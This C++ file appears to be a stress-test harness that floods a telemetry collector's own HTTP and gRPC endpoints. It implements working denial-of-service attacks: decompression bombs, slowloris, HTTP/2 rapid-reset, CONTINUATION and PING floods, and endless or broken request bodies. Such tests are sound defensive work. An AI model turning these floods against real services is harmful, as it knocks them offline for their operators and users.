#include "tests/flood/attackers.h"

#include <random>

#include <fmt/format.h>

#include "net/content_coding.h"
#include "tests/flood/hostile_socket.h"

namespace slowburn::flood {
namespace {

constexpr std::string_view kPreface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
constexpr size_t kBombBytes = 256 << 20;
constexpr int kStep = 100;  // milliseconds

std::string Post(std::string_view headers, std::string_view body) {
  return fmt::format(
      "POST /v1/traces HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-protobuf\r\n{}"
      "Content-Length: {}\r\n\r\n{}",
      headers, body.size(), body);
}

// A frame of HTTP/2.
std::string Frame(uint8_t type, uint8_t flags, uint32_t stream, std::string_view payload) {
  std::string frame;
  const auto size = static_cast<uint32_t>(payload.size());
  for (const int shift : {16, 8, 0}) frame += static_cast<char>(size >> shift);
  frame += static_cast<char>(type);
  frame += static_cast<char>(flags);
  for (const int shift : {24, 16, 8, 0}) frame += static_cast<char>(stream >> shift);
  frame += payload;
  return frame;
}
enum FrameType : uint8_t {
  kData = 0,
  kHeaders = 1,
  kReset = 3,
  kSettings = 4,
  kPing = 6,
  kContinuation = 9
};
constexpr uint8_t kEndHeaders = 4;

// A header block: POST over http to the Export of traces.
std::string ExportHeaders() {
  constexpr std::string_view kPath = "/opentelemetry.proto.collector.trace.v1.TraceService/Export";
  std::string block = "\x83\x86\x04";  // :method POST, :scheme http, :path ...
  block += static_cast<char>(kPath.size());
  block += kPath;
  block += std::string_view("\x01\x01h", 3);  // :authority h
  block += std::string_view(
      "\x0f\x10\x10"
      "application/grpc",
      19);
  return block;
}

Attack Bombs(net::ContentCoding coding) {
  const std::string name(net::ContentCodingName(coding));
  std::string request = Post(fmt::format("Content-Encoding: {}\r\n", name),
                             net::EncodeContent(coding, std::string(kBombBytes, '\0')));
  return {name + "_bombs", [request = std::move(request)](const Target& target, const auto&) {
            HostileSocket socket(target.http);
            if (socket.is_open() && socket.Send(request)) socket.Drain(kStep);
          }};
}

Attack BodiesWithoutEnd() {
  return {
      "endless_chunks", [](const Target& target, const std::stop_token& stop) {
        HostileSocket socket(target.http, 2);
        if (!socket.Send("POST /v1/metrics HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n"
                         "Content-Type: application/json\r\n\r\n")) {
          return;
        }
        const std::string chunk = fmt::format("10000\r\n{}\r\n", std::string(0x10000, ' '));
        while (!stop.stop_requested() && socket.Send(chunk)) {
        }
      }};
}

// Promises much and keeps little, so that what is held for it stays held.
Attack PromisesNotKept() {
  return {"promised_bodies", [](const Target& target, const std::stop_token& stop) {
            std::vector<HostileSocket> sockets;
            for (int i = 0; i < 200; ++i) {
              HostileSocket& socket = sockets.emplace_back(target.http, 3);
              if (!socket.is_open()) return;
              socket.Send("POST /v1/traces HTTP/1.1\r\nHost: h\r\nContent-Length: 8000000\r\n\r\n");
              socket.Send(std::string(100'000, 'x'));
            }
            for (int i = 0; i < 20 && !stop.stop_requested(); ++i) sockets.front().Drain(kStep);
          }};
}

// A byte now and then, of headers that never end.
Attack Slowloris() {
  return {"slowloris", [](const Target& target, const std::stop_token& stop) {
            std::vector<HostileSocket> sockets;
            for (int i = 0; i < 500; ++i) sockets.emplace_back(target.http, 4);
            for (HostileSocket& socket : sockets) socket.Send("POST /v1/traces HTTP/1.1\r\nX: ");
            for (int i = 0; i < 50 && !stop.stop_requested(); ++i) {
              for (HostileSocket& socket : sockets) socket.Send("x");
              sockets.front().Drain(kStep);
            }
          }};
}

Attack SilentConnections(int count) {
  return {"silent_connections", [count](const Target& target, const std::stop_token& stop) {
            std::vector<HostileSocket> sockets;
            for (int i = 0; i < count && !stop.stop_requested(); ++i) {
              const bool is_grpc = i % 2 == 0;
              sockets.emplace_back(is_grpc ? target.grpc : target.http,
                                   static_cast<uint8_t>(5 + i % 5));
            }
            for (int i = 0; i < 50 && !stop.stop_requested(); ++i) sockets.front().Drain(kStep);
          }};
}

Attack Garbage() {
  return {"garbage",
          [random = std::make_shared<std::mt19937_64>(1)](const Target& target, const auto&) {
            std::string bytes(1 + (*random)() % 4096, '\0');
            for (char& byte : bytes) byte = static_cast<char>((*random)());
            HostileSocket http(target.http, 10);
            http.Send(bytes);
            HostileSocket grpc(target.grpc, 10);
            grpc.Send(std::string(kPreface) + bytes);
            grpc.Drain(1);
          }};
}

Attack RapidResets() {
  return {"rapid_resets", [](const Target& target, const std::stop_token& stop) {
            HostileSocket socket(target.grpc, 11);
            bool open = socket.Send(std::string(kPreface) + Frame(kSettings, 0, 0, ""));
            const std::string headers = ExportHeaders();
            for (uint32_t stream = 1; open && !stop.stop_requested(); stream += 2) {
              open = socket.Send(Frame(kHeaders, kEndHeaders, stream, headers) +
                                 Frame(kReset, 0, stream, std::string_view("\0\0\0\x08", 4)));
            }
          }};
}

Attack Continuations() {
  return {"continuations", [](const Target& target, const std::stop_token& stop) {
            HostileSocket socket(target.grpc, 12);
            bool open = socket.Send(std::string(kPreface) + Frame(kSettings, 0, 0, "") +
                                    Frame(kHeaders, 0, 1, ExportHeaders()));
            // A header field whose value is 16 KiB, again and again.
            std::string field = "\x40\x01x\x7f";
            field += "\x81\x7f";
            field += std::string(16'000, 'y');
            while (open && !stop.stop_requested())
              open = socket.Send(Frame(kContinuation, 0, 1, field));
          }};
}

Attack Pings() {
  return {"pings", [](const Target& target, const std::stop_token& stop) {
            HostileSocket socket(target.grpc, 13);
            bool open = socket.Send(std::string(kPreface) + Frame(kSettings, 0, 0, ""));
            std::string many;
            for (int i = 0; i < 1000; ++i) many += Frame(kPing, 0, 0, "12345678");
            while (open && !stop.stop_requested()) open = socket.Send(many);
          }};
}

// Calls whose message never comes to its end.
Attack BrokenStreams() {
  return {"broken_streams", [](const Target& target, const std::stop_token& stop) {
            std::vector<HostileSocket> sockets;
            const std::string headers = ExportHeaders();
            for (int i = 0; i < 50; ++i) {
              HostileSocket& socket = sockets.emplace_back(target.grpc, 14);
              std::string bytes = std::string(kPreface) + Frame(kSettings, 0, 0, "");
              for (uint32_t stream = 1; stream < 100; stream += 2) {
                bytes += Frame(kHeaders, kEndHeaders, stream, headers);
                bytes += Frame(kData, 0, stream, std::string(1000, 'x'));
              }
              socket.Send(bytes);
            }
            for (int i = 0; i < 20 && !stop.stop_requested(); ++i) sockets.front().Drain(kStep);
          }};
}

}  // namespace

std::vector<Attack> MakeAttacks(int idle_connections) {
  std::vector<Attack> attacks;
  attacks.push_back(Bombs(net::ContentCoding::kGzip));
  attacks.push_back(Bombs(net::ContentCoding::kZstd));
  attacks.push_back(BodiesWithoutEnd());
  attacks.push_back(PromisesNotKept());
  attacks.push_back(Slowloris());
  attacks.push_back(SilentConnections(idle_connections));
  attacks.push_back(Garbage());
  attacks.push_back(RapidResets());
  attacks.push_back(Continuations());
  attacks.push_back(Pings());
  attacks.push_back(BrokenStreams());
  return attacks;
}

Attackers::Attackers(const Target& target, std::vector<Attack> attacks) {
  for (Attack& attack : attacks) {
    auto running = std::make_unique<Running>();
    running->attack = std::move(attack);
    running->thread = std::jthread([&running = *running, target](const std::stop_token& stop) {
      while (!stop.stop_requested()) {
        running.attack.round(target, stop);
        ++running.rounds;
      }
    });
    running_.push_back(std::move(running));
  }
}

Attackers::~Attackers() {
  for (const auto& running : running_) running->thread.request_stop();
}

std::vector<std::pair<std::string, uint64_t>> Attackers::rounds() const {
  std::vector<std::pair<std::string, uint64_t>> rounds;
  for (const auto& running : running_) {
    rounds.emplace_back(running->attack.name, running->rounds.load());
  }
  return rounds;
}

}  // namespace slowburn::flood
